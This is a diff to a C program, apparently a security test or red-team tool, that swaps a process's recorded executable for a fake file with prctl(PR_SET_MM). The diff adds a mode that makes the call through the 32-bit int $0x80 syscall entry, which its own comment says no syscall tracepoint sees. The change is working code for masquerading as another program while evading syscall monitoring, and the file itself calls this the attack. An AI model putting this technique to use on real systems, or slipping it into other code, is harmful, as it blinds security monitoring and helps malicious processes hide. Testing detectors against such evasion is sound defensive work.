@@ -7,6 +7,8 @@
  *     MODE exe-file: prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd of FAKE)  (root)
  *          map:      unshare(CLONE_NEWUSER), then prctl(PR_SET_MM, PR_SET_MM_MAP)
  *                    with exe_fd = FAKE (no privilege needed)
+ *          map32:    the same prctl by the ia32 entry (int $0x80 from this 64-bit
+ *                    program, x86-64 only), which no syscall tracepoint sees
  *
  * The kernel refuses the change while the old image is mapped (EBUSY), so every
  * mapping of our own executable is unmapped first; the attack runs from the
@@ -101,15 +103,39 @@ static int unmap_image(void)
 	return k;
 }
 
+/* prctl by the ia32 entry: syscall 172, arguments in ebx, ecx, edx, esi, edi
+ * (arg5 must be 0; a pointer must lie below 4 GiB); -errno as the kernel returns
+ * it */
+static long prctl32(long option, long arg2, long arg3, long arg4)
+{
+#if defined(__x86_64__)
+	long r;
+
+	__asm__ volatile("int $0x80" : "=a"(r)
+			 : "a"(172L), "b"(option), "c"(arg2), "d"(arg3), "S"(arg4), "D"(0L)
+			 : "r8", "r9", "r10", "r11", "memory");
+	return r;
+#else
+	(void)option, (void)arg2, (void)arg3, (void)arg4;
+	return -ENOSYS;
+#endif
+}
+
 void mmswap(const char *mode, const char *fake, const char *target)
 {
 	char buf[600];
 	unsigned long v[64] = {0};
-	struct prctl_mm_map m = {0};
-	int xfd, r, n;
+	struct prctl_mm_map *mp, m0 = {0};
+	int xfd, r, n, ia32 = strcmp(mode, "map32") == 0;
 	ssize_t l;
 
-	if (strcmp(mode, "map") == 0) {
+	/* ia32: the structure below 4 GiB, where a 32-bit register can point */
+	mp = ia32 ? mmap(NULL, 4096, PROT_READ | PROT_WRITE,
+			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0) : &m0;
+	if (mp == MAP_FAILED)
+		fail("mmap(MAP_32BIT)");
+#define m (*mp)
+	if (strcmp(mode, "map") == 0 || ia32) {
 		if (unshare(CLONE_NEWUSER))
 			fail("unshare(CLONE_NEWUSER)");
 		stat_fields(v, 64);
@@ -135,7 +161,13 @@ void mmswap(const char *mode, const char *fake, const char *target)
 	n = unmap_image();
 	snprintf(buf, sizeof buf, "unmapped=%d\n", n);
 	say(buf);
-	if (strcmp(mode, "map") == 0)
+	if (ia32) {
+		long e = prctl32(PR_SET_MM, PR_SET_MM_MAP, (long)(unsigned long)mp,
+				 sizeof(*mp));
+
+		r = e < 0 ? -1 : 0;
+		errno = e < 0 ? (int)-e : 0;
+	} else if (strcmp(mode, "map") == 0)
 		r = prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0);
 	else
 		r = prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, xfd, 0, 0);
